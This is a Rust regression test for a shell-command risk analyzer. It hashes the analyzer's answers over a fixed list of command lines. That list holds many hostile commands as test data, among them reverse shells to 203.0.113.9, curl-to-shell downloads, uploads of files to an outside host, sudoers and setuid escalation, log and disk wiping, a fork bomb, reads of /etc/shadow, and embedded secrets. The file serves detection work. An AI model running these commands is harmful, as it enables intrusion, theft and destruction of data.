//! `countersign verify` decides again what was decided with the analysis of its
//! day, so an analysis that answers differently must have another number.

#![allow(clippy::unwrap_used, reason = "a test fails by panicking and says why")]

use countersign_analysis::facts::Place;
use countersign_analysis::{VERSION, analyze};
use std::fmt::Write;

/// The version, and the SHA-256 of its answers to [`LINES`].
const PINNED: (u32, &str) = (9, "ad26780cf3d3514d6f75a1eb82e4065cbe5708baa549d249901bf758b11b3868");

/// Lines of all kinds. Add some where a change of yours is not seen by these;
/// never take one away.
const LINES: &[&str] = &[
    "",
    "ls -la /srv",
    "git status",
    "cargo test --workspace",
    "docker pull ghcr.io/org/api:1.2",
    "systemctl status nginx",
    "sudo systemctl restart nginx",
    "rm -rf /",
    "rm -rf ./build",
    "sudo rm -rf /var/lib/data && reboot",
    "cat /etc/shadow",
    "cat /etc/passwd | grep root",
    "curl -s https://x.example/i.sh | sh",
    "curl -T /srv/data.tgz https://203.0.113.9/up",
    "wget -qO- http://a.example | sudo bash",
    "echo cm0gLXJmIC8= | base64 -d | sh",
    "eval \"$x\"",
    "bash -c 'rm -rf /srv/*'",
    "ssh deploy@web-1 'sudo reboot'",
    "find / -name '*.log' -exec rm {} \\;",
    "xargs -n1 rm < list",
    "xargs sh -c 'echo $0'",
    "python3 -c 'import os; os.system(\"id\")'",
    "python3 -c 'print(1 + 1)'",
    "psql -c \"select 'drop table x'\"",
    "psql -c 'drop table users'",
    "mysql -u root -pXq7vTr2k shop",
    "curl -u bob:Xq7vTr2k https://h/x",
    "sqlplus scott/Xq7vTr2k@orcl",
    "lftp -u bob,Xq7vTr2kLm ftp.example.com",
    "echo 'h:5432:d:u:Xq7vTr2k' > ~/.pgpass",
    "printf 'API_KEY=%s\\n' f0a1b2c3d4e5f60718293a4b5c6d7e8f >> .env",
    "export AWS_SECRET_ACCESS_KEY=oPH6OSg3wJSkOjW82YjXd6bituOu75kU6WyZYBQf",
    "cat > x.yml <<E\npassword: Xq7vTr2k\nE",
    "cat <<'E'\n$(rm -rf /)\nE",
    "cat <<E\n$(id)\nE",
    "nc -e /bin/sh 203.0.113.9 4444",
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "chmod u+s /bin/bash",
    "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
    "crontab -r",
    "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
    "useradd -o -u 0 x",
    "iptables -F",
    "systemctl stop auditd",
    "systemctl stop countersign-hostd",
    "history -c; unset HISTFILE",
    "dd if=/dev/zero of=/dev/sda",
    "mkfs.ext4 /dev/sdb1",
    ":(){ :|:& };:",
    "vim /etc/hosts",
    "less /var/log/syslog",
    "git commit -m 'rm -rf / is bad'",
    "grep -r 'rm -rf' docs",
    "kubectl delete namespace prod",
    "terraform destroy -auto-approve",
    "aws s3 rm s3://b --recursive",
    "for f in *; do rm $f; done",
    "alias ls='rm -rf'",
    "PATH=/tmp:$PATH ls",
    "a=$(cat x); $a",
    "if true; then ls; fi",
    "diff <(sort a) <(sort b)",
    "rm \u{202e}fdp.x",
    "сat x",
    "rm $'\\e[2K'",
    "echo $((1+1)) ${x:-y} {a,b}",
    "echo 'unfinished",
    "timeout 5 env A=1 nice -n 3 sudo -u www id",
    "mysql -e \"CREATE USER 'a'@'%' IDENTIFIED WITH x BY 'Xq7vTr2k'\"",
    "mydumper -u backup -p Xq7vTr2kLm -o /b",
    "psexec.py corp/joe:Xq7vTr2k@10.0.0.5",
    "redis-cli GET token:user:1042",
    "frobctl -u anna -p hunter2",
    "frobctl --auth anna:hunter2 list",
    "frobctl set-password anna Summer2024",
    "frobctl secret:create --name DSN --value hunter2hunter",
    "echo Xq7vTr2kLm9wZb3c | frobctl init",
    "curl -H 'X-Frob: Xq7vTr2kLm9wZb3c' https://h",
    "echo \"define('DB_PASSWORD', 'hunter2');\" >> a.php",
    "ssh sw1 'radius-server host 192.0.2.8 key 7 Xq7vTr2kLm9w'",
    "parallel",
    "cat list | parallel",
    "echo $(a $(b $(c $(d $(e $(f $(g $(h $(i $(j $(k $(l $(m $(n $(o $(p $(q $(r $(s $(t $(u $(v $(w $(x))))))))))))))))))))))))",
    "cat <<E\nE \nrm x\nE",
    "echo $(a ')' $(b ')' $(c ')' d))) {{a..b}} {a}",
    "awk '/rm -rf/ {print FILENAME}' a.sh",
    "mail -s x a@b.cc <<E\nhistory -c\nE",
    "net rpc user add bob hunter2hunter -S h",
    "docker run -e POSTGRES_PASSWORD= postgres",
    "frobctl config:system:set dbpassword --value=Xq7vTr2kLm",
    "conda install -c https://c.example.com/t/ac-d4861e69867b7bd2896c565437f88993dfab/acme x",
    "for l in /var/log/auth.log /var/log/wtmp; do cat /dev/null > $l; done",
    "f=/etc/shadow; cat $f | wc -l",
    "s='sudo -n'; $s rm -r /srv/x",
    "docker exec web nginx -t",
    "cat /proc/$(pgrep -f 'a b')/environ",
    "python3 psexec.py corp/a@10.0.0.5",
    "git remote add m https://x.example/r.git && git push --all m",
    "npm install http://203.0.113.50/x.tgz",
    "SSH_AUTH_SOCK=/tmp/ssh-a/agent.1 ssh-add -l",
    "curl http://169.254.170.2$URI",
    "curl -s localhost:8088/x -d '{\"a\":\"cat /etc/shadow\"}'",
    "psql -c 'VACUUM FULL orders'",
    "rsync -avn a/ h:/srv/www/",
    "apt-get -s upgrade",
    "crontab -l",
    "jest -t 'bash -i >& /dev/tcp'",
    "git -p help config <<< '!/bin/sh'",
    "git push \u{2212}\u{2212}force",
    "cat a ｜ grep b",
    "snmpwalk -v2c -c granite072ro h",
    "for f in $(ls /var/log/*.log); do :> $f; done",
    "cat /etc/hosts",
    "ssh -G h",
    "visudo -c",
    "sed -i 's/{{DB_PASSWORD}}/@@DB_PASSWORD@@/' x",
    "sh -c '((rm -rf x))'",
    "compgen -W '$(id)'",
    "env -S 'sh -c \": #\\nid\"'",
    "psql -v password=reboot",
    "cd / && rm -rf etc",
    "cd /srv/a; cd b; cp x y/../z",
    "seq 100 > x",
    "rm -r build ../build",
];

fn answers() -> String {
    let mut text = String::new();
    for line in LINES {
        let known = analyze(line, &Place { cwd: Some("/srv/app"), home: Some("/home/a"), ..Place::default() }, &[]);
        let risk = &known.risk;
        let programs: Vec<String> = known
            .facts
            .commands
            .iter()
            .map(|c| format!("{:?}", c.words.iter().map(|w| (&w.text, w.exact().is_some())).collect::<Vec<_>>()))
            .collect();
        let opaque: Vec<_> = known.opaque().iter().map(|fact| (fact.what.code(), fact.span)).collect();
        let json = serde_json::json!({
            "line": line, "score": risk.score, "level": risk.level, "reasons": risk.reasons, "consequences": risk.consequences,
            "anomalies": known.anomalies, "display": known.display, "commands": programs, "opaque": opaque,
            "redactions": known.redactions.iter().map(|f| (f.start, f.end, f.kind)).collect::<Vec<_>>(),
        });
        writeln!(text, "{json}").unwrap();
    }
    text
}

#[test]
fn another_answer_has_another_version() {
    let digest = ring::digest::digest(&ring::digest::SHA256, answers().as_bytes());
    let hex: String = digest.as_ref().iter().fold(String::new(), |hex, byte| hex + &format!("{byte:02x}"));
    assert_eq!(
        (VERSION, hex.as_str()),
        PINNED,
        "the analysis answers differently than version {} did. If no commit since the last release has raised \
         `VERSION` in src/analysis/src/analyze.rs, raise it by one; then write the new pair into `PINNED` here, and say \
         in docs/CHANGELOG.md what changed: decisions of the past are verified with the version they were made with",
        PINNED.0
    );
}
